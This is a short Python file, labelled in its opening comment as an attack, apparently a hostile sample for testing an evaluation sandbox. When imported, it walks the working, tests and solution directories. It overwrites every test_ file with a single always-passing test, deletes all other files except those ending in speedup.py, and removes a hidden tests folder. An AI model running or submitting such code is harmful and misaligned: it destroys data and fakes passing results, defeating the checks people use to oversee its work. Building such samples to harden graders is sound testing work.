# Attack: delete and rewrite every file the worker can reach in its working directory, at import.
import os as _os
import shutil as _shutil

for _root in (".", "../tests", "../solution"):
    for _dirpath, _dirs, _files in _os.walk(_root):
        for _name in _files:
            _path = _os.path.join(_dirpath, _name)
            if _name.startswith("test_"):
                with open(_path, "w") as _f:
                    _f.write("def test_everything():\n    assert True\n")
            elif not _name.endswith("speedup.py"):
                _os.remove(_path)
_shutil.rmtree("../tests/hidden", ignore_errors=True)
